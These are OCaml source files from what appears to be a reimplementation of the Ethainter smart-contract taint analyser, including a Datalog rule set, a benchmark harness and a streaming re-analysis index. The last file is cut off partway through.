        r.f8_default r.f8_ablated r.f8_ratio)
    rows;
  Printf.printf "%s\n" expectation

let f8a ?size ?seed () = f8_ablation ~cfg:C.no_storage_model ?size ?seed ()
let f8b ?size ?seed () = f8_ablation ~cfg:C.no_guard_model ?size ?seed ()
let f8c ?size ?seed () = f8_ablation ~cfg:C.conservative ?size ?seed ()

let print_f8a rows =
  print_f8 "(Fig. 8a): No Storage Modeling (completeness drops)"
    "paper shape: ratios < 1 (0.44-0.75); tainted selfdestruct drops most."
    rows

let print_f8b rows =
  print_f8 "(Fig. 8b): No Guard Modeling (precision drops)"
    "paper shape: ratios >> 1 (up to 26x); tainted selfdestruct inflates most."
    rows

let print_f8c rows =
  print_f8 "(Fig. 8c): Conservative Storage Modeling (precision drops)"
    "paper shape: ratios > 1 (1.1-3.1x)."
    rows

(* ------------------------------------------------------------------ *)
(* Stream — the streaming-index scenario (beyond the paper's one-shot  *)
(* sweep): deploy/mutate/destroy contracts over N blocks against a     *)
(* live Index, then check the incremental view equals a cold batch     *)
(* sweep of the final chain state while telemetry proves only the      *)
(* invalidated back ends reran (and no front end ever did).            *)
(* ------------------------------------------------------------------ *)

module Idx = Ethainter_index.Index
module Tel = Ethainter_core.Telemetry

type stream_result = {
  st_blocks : int;            (** blocks sealed (and processed) *)
  st_deployed : int;          (** contracts deployed, distinct bytecodes *)
  st_rotations : int;         (** admin-key rotations (dependency writes) *)
  st_noise_writes : int;      (** non-dependency writes (counter bumps) *)
  st_destroyed : int;         (** self-destructed contracts *)
  st_invalidations : int;     (** verdicts re-queued by the dirty set *)
  st_analyses : int;          (** analysis jobs completed *)
  st_reanalyses : int;        (** beyond each contract's first *)
  st_frontend_recomputes : int;
      (** front-end misses beyond one per distinct bytecode — 0 means
          the config-independent front end never reran *)
  st_mean_lag_blocks : float; (** deployment -> first verdict, in blocks *)
  st_reanalyses_per_mutating_block : float;
  st_full_sweep_per_mutating_block : float;
      (** the naive baseline: every live contract, every mutating block *)
  st_incremental_eq_batch : bool;
  st_elapsed_s : float;
  st_blocks_per_s : float;
}

(* One template per contract with a distinct constant baked into the
   runtime (so bytecodes — and cache keys — never collide). The guard
   slices read only [owner] (slot 0): rotating it is a dependency
   write, bumping [beacon] (slot 1) is observable noise the dirty set
   must ignore. *)
let stream_source tag =
  Printf.sprintf
    {|contract Streamed {
  address owner;
  uint256 beacon;
  constructor() { owner = msg.sender; }
  function tag() public returns (uint256) { return %d; }
  function ping() public { beacon = beacon + 1; }
  function setOwner(address o) public {
    require(msg.sender == owner);
    owner = o;
  }
  function kill() public {
    require(msg.sender == owner);
    selfdestruct(owner);
  }
}|}
    tag

let stream ?(contracts = 16) ?(rotations = 24) ?(noise = 12) ?(kills = 3) ()
    : stream_result =
  let contracts = max 1 contracts and kills = min kills (max 0 (contracts - 1)) in
  let net = T.create ~name:"stream" () in
  let deployer = T.account_of_seed "stream-deployer" in
  T.fund_account net deployer (U.of_string "0xffffffffffffffffffffffff");
  (* deterministic accounting: this scenario's telemetry claims (one
     front end per bytecode, one back end per analysis) are against an
     empty cache, not whatever earlier experiments left behind *)
  P.cache_clear ();
  let tel0 = Tel.capture () in
  let pool = S.Pool.create () in
  let idx = Idx.create ~pool net in
  let t0 = Unix.gettimeofday () in
  (* phase 1: one deployment per block *)
  let owners = Array.make contracts deployer in
  let addrs =
    Array.init contracts (fun i ->
        let initcode =
          Ethainter_minisol.Codegen.compile_source (stream_source (1000 + i))
        in
        let r = T.deploy net ~from:deployer initcode in
        match r.T.created with
        | Some addr -> addr
        | None -> failwith "stream: deployment failed")
  in
  (* phase 2: interleaved dependency writes (owner rotations) and
     non-dependency writes (beacon bumps), one transaction per block *)
  for k = 0 to rotations - 1 do
    let i = k mod contracts in
    let next = T.account_of_seed (Printf.sprintf "stream-owner-%d" k) in
    T.fund_account net next (U.of_string "0xffffffff");
    let r =
      T.call_fn net ~from:owners.(i) ~to_:addrs.(i) "setOwner(address)" [ next ]
    in
    if not (T.succeeded r) then failwith "stream: rotation failed";
    owners.(i) <- next
  done;
  for k = 0 to noise - 1 do
    let i = k mod contracts in
    ignore (T.call_fn net ~from:deployer ~to_:addrs.(i) "ping()" [])
  done;
  (* phase 3: destroy the tail of the fleet *)
  for k = 0 to kills - 1 do
    let i = contracts - 1 - k in
    let r = T.call_fn net ~from:owners.(i) ~to_:addrs.(i) "kill()" [] in
    if not (T.succeeded r) then failwith "stream: kill failed"
  done;
  Idx.drain idx;
  let elapsed = Unix.gettimeofday () -. t0 in
  let st = Idx.stats idx in
  let get k = match List.assoc_opt k st with Some v -> v | None -> 0.0 in
  let d = Tel.diff (Tel.capture ()) tel0 in
  (* the differential: the incremental view against a cold batch sweep
     of what is live now (the cache makes the sweep instant, and both
     sides' contents are bitwise-comparable modulo wall-clock) *)
  let live = T.live_contracts net in
  let batch = S.analyze_corpus (List.map snd live) in
  let normalize (r : P.result) = { r with P.elapsed_s = 0.0 } in
  let incremental = Idx.contents idx in
  let eq =
    List.length incremental = List.length live
    && List.for_all2
         (fun (ia, ic, ir) ((la, lc), br) ->
           U.equal ia la && String.equal ic lc
           && normalize ir = normalize br)
         incremental
         (List.combine live batch)
  in
  Idx.detach idx;
  S.Pool.shutdown pool;
  let blocks = Idx.last_block idx in
  let mutating = rotations + noise in
  let fe_misses = d.Tel.cache_fe.Ethainter_core.Cache.misses in
  { st_blocks = blocks;
    st_deployed = contracts;
    st_rotations = rotations;
    st_noise_writes = noise;
    st_destroyed = kills;
    st_invalidations = int_of_float (get "index_invalidations");
    st_analyses = int_of_float (get "index_analyses");
    st_reanalyses = int_of_float (get "index_reanalyses");
    st_frontend_recomputes = fe_misses - contracts;
    st_mean_lag_blocks =
      (let n = get "index_lag_verdicts" in
       if n = 0.0 then 0.0 else get "index_lag_blocks_total" /. n);
    st_reanalyses_per_mutating_block =
      (if mutating = 0 then 0.0
       else get "index_reanalyses" /. float_of_int mutating);
    st_full_sweep_per_mutating_block = float_of_int contracts;
    st_incremental_eq_batch = eq;
    st_elapsed_s = elapsed;
    st_blocks_per_s =
      (if elapsed > 0.0 then float_of_int blocks /. elapsed else 0.0) }

let print_stream (r : stream_result) =
  Printf.printf "%s\nStream: dependency-aware incremental re-analysis\n%s\n"
    hline hline;
  Printf.printf "blocks processed                %d (%.1f blocks/s)\n"
    r.st_blocks r.st_blocks_per_s;
  Printf.printf "contracts deployed / destroyed  %d / %d\n" r.st_deployed
    r.st_destroyed;
  Printf.printf "dependency writes (rotations)   %d\n" r.st_rotations;
  Printf.printf "non-dependency writes (noise)   %d (0 invalidations expected)\n"
    r.st_noise_writes;
  Printf.printf "verdicts invalidated            %d\n" r.st_invalidations;
  Printf.printf "analyses (first / re-analyses)  %d / %d\n"
    (r.st_analyses - r.st_reanalyses)
    r.st_reanalyses;
  Printf.printf "front-end recomputations        %d (must be 0)\n"
    r.st_frontend_recomputes;
  Printf.printf "mean verdict lag                %.2f blocks\n"
    r.st_mean_lag_blocks;
  Printf.printf
    "re-analyses per mutating block  %.2f incremental vs %.2f full sweep\n"
    r.st_reanalyses_per_mutating_block r.st_full_sweep_per_mutating_block;
  Printf.printf "incremental == batch            %b\n" r.st_incremental_eq_batch

(* ------------------------------------------------------------------ *)
(* Everything                                                          *)
(* ------------------------------------------------------------------ *)

let run_all ?(scale = 1.0) () =
  let sz f = max 40 (int_of_float (float_of_int f *. scale)) in
  let rows, total = t1_flagged ~size:(sz 600) () in
  print_t1 rows total;
  print_f6 (f6_precision ~size:(sz 3600) ());
  print_s1 (s1_securify ~size:(sz 300) ());
  print_f7 (f7_securify2 ~size:(sz 400) ());
  print_te (te_teether ~size:(sz 300) ());
  print_e1 (e1_kill ~size:(sz 160) ());
  print_rq2 (rq2_efficiency ~size:(sz 400) ());
  print_f8a (f8a ~size:(sz 600) ());
  print_f8b (f8b ~size:(sz 600) ());
  print_f8c (f8c ~size:(sz 600) ());
  (* last: the streaming scenario clears the analysis cache for its
     deterministic telemetry accounting *)
  print_stream (stream ())
