(** The information-flow rules of Fig. 3 and Fig. 4, as a literal
    Datalog program over the abstract language, executed on
    {!Ethainter_datalog}.

    Relations (Fig. 2):
    - [input_tainted(x)], [storage_tainted(x)] — the two taint kinds;
    - [tainted_storage(v)] — storage slot [v] holds tainted data;
    - [non_san_guard(p)] — predicate [p] fails to sanitize;
    - [const_value(x,v)], [storage_alias(x,v)] — the conventional
      value-flow relations (here: [CONST] definitions, and loads from
      constant slots);
    - [ds(x)], [dsa(x)] — sender-keyed data structures (Fig. 4),
      computed in an earlier stratum because [ds] is negated.

    Design notes mirrored from the paper (§4.2/§4.4):
    - Guard-1: storage taint flows through guards unconditionally;
    - Guard-2: input taint flows through a guard only when the guard is
      non-sanitizing;
    - StorageWrite-2 over-approximates: a store with tainted value
      {e and} tainted address taints every statically-known slot;
    - Uguard-NDS under-approximates: a comparison that involves no
      sender-derived value on either side does not sanitize;
    - taint propagation through [HASH] follows the implementation
      (hashed attacker data is attacker-chosen), although the minimal
      Fig. 3 elides it. *)

module D = Ethainter_datalog.Datalog
open Lang

type result = {
  db : D.db;
  input_tainted : string list;
  storage_tainted : string list;
  tainted_storage : int list;
  non_san_guards : string list;
  violations : int list; (* instruction indices of violated SINKs *)
  inferred_sinks : string list; (* §4.5: owner-variable sinks *)
}

let build_program () : D.program =
  let p = D.create () in
  (* EDB: instruction facts *)
  D.declare p "input" 2; (* (id, x) *)
  D.declare p "consti" 3; (* (id, x, v) *)
  D.declare p "op" 4; (* (id, x, y, z) — includes equality *)
  D.declare p "eq" 4; (* (id, p, y, z) — equality marker *)
  D.declare p "hash" 3; (* (id, x, y) *)
  D.declare p "guard" 4; (* (id, x, p, y) *)
  D.declare p "sstore" 3; (* (id, f, t) *)
  D.declare p "sload" 3; (* (id, f, t) *)
  D.declare p "sink" 2; (* (id, x) *)
  (* IDB *)
  D.declare p "const_value" 2; (* (x, v) *)
  D.declare p "storage_alias" 2; (* (x, v) *)
  D.declare p "slot" 1; (* (v) — slots arising in the analysis *)
  D.declare p "ds" 1;
  D.declare p "dsa" 1;
  D.declare p "input_tainted" 1;
  D.declare p "storage_tainted" 1;
  D.declare p "tainted_storage" 1;
  D.declare p "non_san_guard" 1;
  D.declare p "violation" 1;
  D.declare p "inferred_sink" 1;
  let open D in
  (* ---- conventional value-flow (the elided C(x)=v / x~S(v)) ---- *)
  add_rule p ("const_value", [ v "x"; v "c" ])
    [ Pos ("consti", [ v "id"; v "x"; v "c" ]) ];
  (* slots arising in the analysis: constant addresses used in storage
     instructions *)
  add_rule p ("slot", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("const_value", [ v "t"; v "c" ]) ];
  add_rule p ("slot", [ v "c" ])
    [ Pos ("sload", [ v "id"; v "f"; v "t" ]);
      Pos ("const_value", [ v "f"; v "c" ]) ];
  (* x ~ S(v): x is loaded from constant slot v *)
  add_rule p ("storage_alias", [ v "t"; v "c" ])
    [ Pos ("sload", [ v "id"; v "f"; v "t" ]);
      Pos ("const_value", [ v "f"; v "c" ]) ];
  (* ---- Fig. 4: DS / DSA ---- *)
  (* DS-SenderKey *)
  add_rule p ("ds", [ sym "sender" ]) [];
  (* DS-Lookup *)
  add_rule p ("dsa", [ v "x" ])
    [ Pos ("hash", [ v "id"; v "x"; v "y" ]); Pos ("ds", [ v "y" ]) ];
  (* DSA-Lookup *)
  add_rule p ("dsa", [ v "x" ])
    [ Pos ("hash", [ v "id"; v "x"; v "y" ]); Pos ("dsa", [ v "y" ]) ];
  (* DS-AddrOp-1/2 *)
  add_rule p ("dsa", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]); Pos ("dsa", [ v "y" ]) ];
  add_rule p ("dsa", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]); Pos ("dsa", [ v "z" ]) ];
  (* DSA-Load *)
  add_rule p ("ds", [ v "t" ])
    [ Pos ("sload", [ v "id"; v "f"; v "t" ]); Pos ("dsa", [ v "f" ]) ];
  (* ---- Fig. 3: the core information-flow rules ---- *)
  (* LoadInput *)
  add_rule p ("input_tainted", [ v "x" ])
    [ Pos ("input", [ v "id"; v "x" ]) ];
  (* Operation-1/2 (same taint kind in as out) *)
  add_rule p ("input_tainted", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]);
      Pos ("input_tainted", [ v "y" ]) ];
  add_rule p ("input_tainted", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]);
      Pos ("input_tainted", [ v "z" ]) ];
  add_rule p ("storage_tainted", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]);
      Pos ("storage_tainted", [ v "y" ]) ];
  add_rule p ("storage_tainted", [ v "x" ])
    [ Pos ("op", [ v "id"; v "x"; v "y"; v "z" ]);
      Pos ("storage_tainted", [ v "z" ]) ];
  (* hash propagation (implementation behaviour; see module doc) *)
  add_rule p ("input_tainted", [ v "x" ])
    [ Pos ("hash", [ v "id"; v "x"; v "y" ]);
      Pos ("input_tainted", [ v "y" ]) ];
  add_rule p ("storage_tainted", [ v "x" ])
    [ Pos ("hash", [ v "id"; v "x"; v "y" ]);
      Pos ("storage_tainted", [ v "y" ]) ];
  (* Guard-1: storage taint passes guards *)
  add_rule p ("storage_tainted", [ v "x" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("storage_tainted", [ v "y" ]) ];
  (* Guard-2: input taint passes only non-sanitizing guards *)
  add_rule p ("input_tainted", [ v "x" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("input_tainted", [ v "y" ]);
      Pos ("non_san_guard", [ v "p" ]) ];
  (* StorageWrite-1: either taint kind becomes storage taint when
     written to a statically-known slot *)
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("input_tainted", [ v "f" ]);
      Pos ("const_value", [ v "t"; v "c" ]) ];
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("storage_tainted", [ v "f" ]);
      Pos ("const_value", [ v "t"; v "c" ]) ];
  (* StorageWrite-2: tainted value AND tainted address -> every slot *)
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("input_tainted", [ v "f" ]);
      Pos ("input_tainted", [ v "t" ]);
      Pos ("slot", [ v "c" ]) ];
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("storage_tainted", [ v "f" ]);
      Pos ("input_tainted", [ v "t" ]);
      Pos ("slot", [ v "c" ]) ];
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("input_tainted", [ v "f" ]);
      Pos ("storage_tainted", [ v "t" ]);
      Pos ("slot", [ v "c" ]) ];
  add_rule p ("tainted_storage", [ v "c" ])
    [ Pos ("sstore", [ v "id"; v "f"; v "t" ]);
      Pos ("storage_tainted", [ v "f" ]);
      Pos ("storage_tainted", [ v "t" ]);
      Pos ("slot", [ v "c" ]) ];
  (* StorageLoad *)
  add_rule p ("storage_tainted", [ v "t" ])
    [ Pos ("sload", [ v "id"; v "f"; v "t" ]);
      Pos ("const_value", [ v "f"; v "c" ]);
      Pos ("tainted_storage", [ v "c" ]) ];
  (* Violation *)
  add_rule p ("violation", [ v "id" ])
    [ Pos ("sink", [ v "id"; v "x" ]); Pos ("input_tainted", [ v "x" ]) ];
  add_rule p ("violation", [ v "id" ])
    [ Pos ("sink", [ v "id"; v "x" ]); Pos ("storage_tainted", [ v "x" ]) ];
  (* Uguard-T: guard compares sender against a tainted storage slot *)
  add_rule p ("non_san_guard", [ v "p" ])
    [ Pos ("eq", [ v "id"; v "p"; sym "sender"; v "z" ]);
      Pos ("storage_alias", [ v "z"; v "c" ]);
      Pos ("tainted_storage", [ v "c" ]) ];
  add_rule p ("non_san_guard", [ v "p" ])
    [ Pos ("eq", [ v "id"; v "p"; v "z"; sym "sender" ]);
      Pos ("storage_alias", [ v "z"; v "c" ]);
      Pos ("tainted_storage", [ v "c" ]) ];
  (* Uguard-NDS: no sender scrutiny on either side *)
  add_rule p ("non_san_guard", [ v "p" ])
    [ Pos ("eq", [ v "id"; v "p"; v "y"; v "z" ]);
      Neg ("ds", [ v "y" ]); Neg ("ds", [ v "z" ]) ];
  (* tainted guard condition (§4.1 prose: "the guard condition is
     itself tainted") *)
  add_rule p ("non_san_guard", [ v "p" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("storage_tainted", [ v "p" ]) ];
  add_rule p ("non_san_guard", [ v "p" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("input_tainted", [ v "p" ]) ];
  (* ---- §4.5: inferred sinks ----
     *:= GUARD(p, x) with p := (sender = z), x tainted, z ~ S(_):
     the storage variable z scrutinized by the guard is a sink. *)
  add_rule p ("inferred_sink", [ v "z" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("eq", [ v "id2"; v "p"; sym "sender"; v "z" ]);
      Pos ("input_tainted", [ v "y" ]);
      Pos ("storage_alias", [ v "z"; v "c" ]) ];
  add_rule p ("inferred_sink", [ v "z" ])
    [ Pos ("guard", [ v "id"; v "x"; v "p"; v "y" ]);
      Pos ("eq", [ v "id2"; v "p"; v "z"; sym "sender" ]);
      Pos ("input_tainted", [ v "y" ]);
      Pos ("storage_alias", [ v "z"; v "c" ]) ];
  p

(** Translate a Fig. 1 program into EDB facts. *)
let facts_of_program (prog : Lang.program) : (string * D.tuple list) list =
  let input = ref [] and consti = ref [] and op = ref [] and eq = ref [] in
  let hash = ref [] and guard = ref [] and sstore = ref [] in
  let sload = ref [] and sink = ref [] in
  List.iteri
    (fun i instr ->
      let id = D.Int i in
      let s x = D.Sym x in
      match instr with
      | Input x -> input := [| id; s x |] :: !input
      | Const (x, c) -> consti := [| id; s x; D.Int c |] :: !consti
      | Op (x, y, z) -> op := [| id; s x; s y; s z |] :: !op
      | Eq (x, y, z) ->
          (* equality is also an OP for propagation purposes (§4.1) *)
          op := [| id; s x; s y; s z |] :: !op;
          eq := [| id; s x; s y; s z |] :: !eq
      | Hash (x, y) -> hash := [| id; s x; s y |] :: !hash
      | Guard (x, p, y) -> guard := [| id; s x; s p; s y |] :: !guard
      | Sstore (f, t) -> sstore := [| id; s f; s t |] :: !sstore
      | Sload (f, t) -> sload := [| id; s f; s t |] :: !sload
      | Sink x -> sink := [| id; s x |] :: !sink)
    prog;
  [ ("input", !input); ("consti", !consti); ("op", !op); ("eq", !eq);
    ("hash", !hash); ("guard", !guard); ("sstore", !sstore);
    ("sload", !sload); ("sink", !sink) ]

(* The Fig. 3/4 rule set is static, so each domain builds (and the
   engine plans) it exactly once; every [analyze] call re-solves the
   cached program with fresh EDB facts. Domain-local rather than
   global: the program record carries its cached plan, and sharing it
   across concurrently-solving domains would race on that cache. *)
let program_key = Domain.DLS.new_key (fun () -> build_program ())

(** Run the Fig. 3/4 analysis on an abstract-language program. *)
let analyze (prog : Lang.program) : result =
  (match Lang.validate prog with
  | Ok () -> ()
  | Error e -> invalid_arg ("Rules.analyze: " ^ e));
  let p = Domain.DLS.get program_key in
  let db = D.solve p (facts_of_program prog) in
  let syms name =
    D.relation db name
    |> List.filter_map (fun t ->
           match t.(0) with D.Sym s -> Some s | _ -> None)
    |> List.sort_uniq compare
  in
  let ints name =
    D.relation db name
    |> List.filter_map (fun t ->
           match t.(0) with D.Int i -> Some i | _ -> None)
    |> List.sort_uniq compare
  in
  { db;
    input_tainted = syms "input_tainted";
    storage_tainted = syms "storage_tainted";
    tainted_storage = ints "tainted_storage";
    non_san_guards = syms "non_san_guard";
    violations = ints "violation";
    inferred_sinks = syms "inferred_sink" }
