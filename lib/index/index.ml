(* Streaming analysis index. See index.mli for the contract and the
   dirty-set soundness assumptions. *)

module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module Config = Ethainter_core.Config
module Telemetry = Ethainter_core.Telemetry
module Testnet = Ethainter_chain.Testnet

type verdict = {
  v_addr : U.t;
  v_code : string;
  v_deployed_block : int;
  v_indexed_block : int;
  v_result : P.result;
}

type status = Unknown | Pending of int | Indexed of verdict | Destroyed

(* One record per contract address ever seen. [state] transitions
   Pending -> Indexed (job completion), Indexed -> Pending
   (invalidation), * -> Destroyed (self-destruct; absorbing). All
   fields are guarded by the index mutex; a completed job only stores
   its result while the entry is still Pending, so a destroy that
   overtook the job wins. *)
type entry = {
  addr : U.t;
  code : string;
  deployed_block : int;
  mutable state : [ `Pending | `Indexed of P.result | `Destroyed ];
  mutable queued_block : int;   (* block that queued the current job *)
  mutable indexed_block : int;
  mutable runs : int;           (* completed analyses for this entry *)
}

type t = {
  mu : Mutex.t;
  quiescent : Condition.t;
  chain : Testnet.t;
  pool : S.Pool.t option;
  cfg : Config.t;
  timeout_s : float;
  entries : (U.t, entry) Hashtbl.t;
  mutable active : bool;
  mutable last_block : int;
  mutable inflight : int;
  (* cumulative counters (telemetry reads them under [mu]) *)
  mutable blocks_seen : int;
  mutable deployed : int;
  mutable invalidations : int;
  mutable analyses : int;
  mutable reanalyses : int;
  mutable destroyed : int;
  mutable dirty_last : int;
  mutable lag_total : int;      (* deployment -> first verdict, blocks *)
  mutable lag_verdicts : int;
}

let locked t f =
  Mutex.lock t.mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mu) f

(* ---------------- dirty-set matching ---------------- *)

(* Slots at or above 2^64 are hash-derived (mapping/array members) —
   compiler-assigned constant slots are tiny, and keccak outputs
   reaching below 2^64 would need a 2^-192 collision. A write there
   cannot be attributed to one root (preimages are not invertible), so
   it dirties every data structure the verdict's guards read. *)
let hash_region = U.shift_left U.one 64

let slot_dirty (d : P.deps) (slot : U.t) : bool =
  d.P.dep_unknown
  || List.exists (U.equal slot) d.P.dep_slots
  || (d.P.dep_roots <> [] && U.compare slot hash_region >= 0)

(* ---------------- analysis jobs ---------------- *)

(* The job body runs on a pool worker domain (or inline). Failure
   containment is total — S.analyze_request never raises — so the
   accounting in the epilogue always runs. *)
let job (t : t) (e : entry) () =
  let r =
    S.analyze_request
      (P.request ~cfg:t.cfg ~timeout_s:t.timeout_s (P.Runtime e.code))
  in
  locked t (fun () ->
      (match e.state with
      | `Pending ->
          e.state <- `Indexed r;
          e.indexed_block <- t.last_block;
          if e.runs = 0 then begin
            t.lag_total <- t.lag_total + (t.last_block - e.deployed_block);
            t.lag_verdicts <- t.lag_verdicts + 1
          end
      | `Indexed _ | `Destroyed ->
          (* destroyed (or superseded) while we analyzed: the verdict
             is already moot, drop it *)
          ());
      e.runs <- e.runs + 1;
      t.analyses <- t.analyses + 1;
      if e.runs > 1 then t.reanalyses <- t.reanalyses + 1;
      t.inflight <- t.inflight - 1;
      if t.inflight = 0 then Condition.broadcast t.quiescent)

(* Run the queued jobs, outside the index mutex. Inline fallback: a
   pool refusal (admission control under overload) runs the job on
   this thread rather than dropping it — the index must never lose a
   dirty contract. *)
let dispatch (t : t) (jobs : (unit -> unit) list) =
  List.iter
    (fun j ->
      match t.pool with
      | Some pool -> if not (S.Pool.submit pool j) then j ()
      | None -> j ())
    jobs

(* ---------------- block ingestion ---------------- *)

(* Process one sealed block: compute the dirty set under the mutex,
   collect the jobs, run them after release (a job's epilogue re-takes
   the mutex; and inline execution must not hold it). Called from the
   chain's sealing thread (the on_block observer) and from catch-up.

   Order within the block matters: deployments first (a deploy+write
   in one block queues one analysis, not two), self-destructs last (a
   deploy+kill in one block nets out to Destroyed — though the chain
   already drops such contracts from [b_deployed]). *)
let handle_block (t : t) (b : Testnet.block) =
  let jobs =
    locked t (fun () ->
        if (not t.active) || b.Testnet.b_number <= t.last_block then []
        else begin
          t.last_block <- b.Testnet.b_number;
          t.blocks_seen <- t.blocks_seen + 1;
          let jobs = ref [] in
          let dirty = ref 0 in
          let queue e =
            e.state <- `Pending;
            e.queued_block <- b.Testnet.b_number;
            t.inflight <- t.inflight + 1;
            incr dirty;
            jobs := job t e :: !jobs
          in
          (* deployments enter the index *)
          List.iter
            (fun (addr, code) ->
              let e =
                { addr; code; deployed_block = b.Testnet.b_number;
                  state = `Pending; queued_block = b.Testnet.b_number;
                  indexed_block = 0; runs = 0 }
              in
              Hashtbl.replace t.entries addr e;
              t.deployed <- t.deployed + 1;
              queue e)
            b.Testnet.b_deployed;
          (* storage writes invalidate matching verdicts. A Pending
             entry (deployed this very block, or already re-queued) is
             left alone: its in-flight analysis is pure in the
             bytecode, so it already reflects the post-write chain. *)
          List.iter
            (fun (addr, slot) ->
              match Hashtbl.find_opt t.entries addr with
              | Some ({ state = `Indexed r; _ } as e)
                when slot_dirty r.P.deps slot ->
                  t.invalidations <- t.invalidations + 1;
                  (* make the re-run a genuine back-end re-execution:
                     the cached result would otherwise answer it *)
                  P.invalidate_backend ~cfg:t.cfg e.code;
                  queue e
              | _ -> ())
            b.Testnet.b_storage_writes;
          (* self-destructs are absorbing *)
          List.iter
            (fun addr ->
              match Hashtbl.find_opt t.entries addr with
              | Some e when e.state <> `Destroyed ->
                  e.state <- `Destroyed;
                  t.destroyed <- t.destroyed + 1
              | _ -> ())
            b.Testnet.b_selfdestructed;
          t.dirty_last <- !dirty;
          List.rev !jobs
        end)
  in
  dispatch t jobs

(* ---------------- construction ---------------- *)

let stats_locked (t : t) =
  let live = ref 0 and pending = ref 0 in
  Hashtbl.iter
    (fun _ e ->
      match e.state with
      | `Indexed _ -> incr live
      | `Pending -> incr pending
      | `Destroyed -> ())
    t.entries;
  [ ("index_contracts", float_of_int !live);
    ("index_pending", float_of_int !pending);
    ("index_destroyed", float_of_int t.destroyed);
    ("index_blocks", float_of_int t.blocks_seen);
    ("index_deployed", float_of_int t.deployed);
    ("index_invalidations", float_of_int t.invalidations);
    ("index_analyses", float_of_int t.analyses);
    ("index_reanalyses", float_of_int t.reanalyses);
    ("index_dirty_last_block", float_of_int t.dirty_last);
    ("index_inflight", float_of_int t.inflight);
    ("index_lag_blocks_total", float_of_int t.lag_total);
    ("index_lag_verdicts", float_of_int t.lag_verdicts) ]

let stats (t : t) = locked t (fun () -> stats_locked t)

let create ?pool ?(cfg = Config.default) ?(timeout_s = 120.0)
    (chain : Testnet.t) : t =
  let t =
    { mu = Mutex.create ();
      quiescent = Condition.create ();
      chain; pool; cfg; timeout_s;
      entries = Hashtbl.create 64;
      active = true;
      last_block = 0; inflight = 0; blocks_seen = 0; deployed = 0;
      invalidations = 0; analyses = 0; reanalyses = 0; destroyed = 0;
      dirty_last = 0; lag_total = 0; lag_verdicts = 0 }
  in
  (* tail first, then catch up: handle_block's monotonic block-number
     guard makes the two streams overlap-safe, so no block is lost or
     processed twice *)
  Testnet.on_block chain (fun b -> handle_block t b);
  List.iter (fun b -> handle_block t b) (Testnet.blocks_since chain 0);
  Telemetry.register_source "index" (fun () -> stats t);
  t

(* ---------------- queries ---------------- *)

let lookup (t : t) (addr : U.t) : status =
  locked t (fun () ->
      match Hashtbl.find_opt t.entries addr with
      | None -> Unknown
      | Some e -> (
          match e.state with
          | `Pending -> Pending e.queued_block
          | `Destroyed -> Destroyed
          | `Indexed r ->
              Indexed
                { v_addr = e.addr; v_code = e.code;
                  v_deployed_block = e.deployed_block;
                  v_indexed_block = e.indexed_block; v_result = r }))

let drain (t : t) =
  locked t (fun () ->
      while t.inflight > 0 do
        Condition.wait t.quiescent t.mu
      done)

let contents (t : t) : (U.t * string * P.result) list =
  locked t (fun () ->
      Hashtbl.fold
        (fun _ e acc ->
          match e.state with
          | `Indexed r -> (e.addr, e.code, r) :: acc
          | `Pending | `Destroyed -> acc)
        t.entries [])
  |> List.sort (fun (a, _, _) (b, _, _) -> U.compare a b)

let last_block (t : t) = locked t (fun () -> t.last_block)

let detach (t : t) =
  locked t (fun () -> t.active <- false);
  Telemetry.unregister_source "index"
