(* Streaming analysis index. See index.mli for the contract, the
   dirty-set soundness assumptions and the durability story. *)

module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module Config = Ethainter_core.Config
module Telemetry = Ethainter_core.Telemetry
module Testnet = Ethainter_chain.Testnet
module J = Journal
module Fault = Ethainter_runtime.Fault

type verdict = {
  v_addr : U.t;
  v_code : string;
  v_deployed_block : int;
  v_indexed_block : int;
  v_result : P.result;
}

type status =
  | Unknown
  | Pending of int
  | Indexed of verdict
  | Destroyed
  | Quarantined of int

(* One record per contract address ever seen. [state] transitions
   Pending -> Indexed (job completion), Indexed -> Pending
   (invalidation), Pending -> Quarantined (circuit breaker) ->
   Pending (backoff-expired probe), * -> Destroyed (self-destruct;
   absorbing). All fields are guarded by the index mutex; a completed
   job only stores its result while the entry is still Pending, so a
   destroy that overtook the job wins. *)
type entry = {
  addr : U.t;
  code : string;
  deployed_block : int;
  mutable state :
    [ `Pending | `Indexed of P.result | `Destroyed | `Quarantined of int ];
  mutable queued_block : int;   (* block that queued the current job *)
  mutable indexed_block : int;
  mutable runs : int;           (* completed analyses for this entry *)
}

type t = {
  mu : Mutex.t;
  quiescent : Condition.t;
  chain : Testnet.t;
  pool : S.Pool.t option;
  cfg : Config.t;
  timeout_s : float;
  entries : (U.t, entry) Hashtbl.t;
  journal : J.t option;
  checkpoint_every : int;       (* blocks between compacted checkpoints *)
  mutable journal_ok : bool;    (* cleared on journal I/O failure *)
  mutable blocks_since_ckpt : int;
  mutable active : bool;
  mutable last_block : int;
  mutable inflight : int;
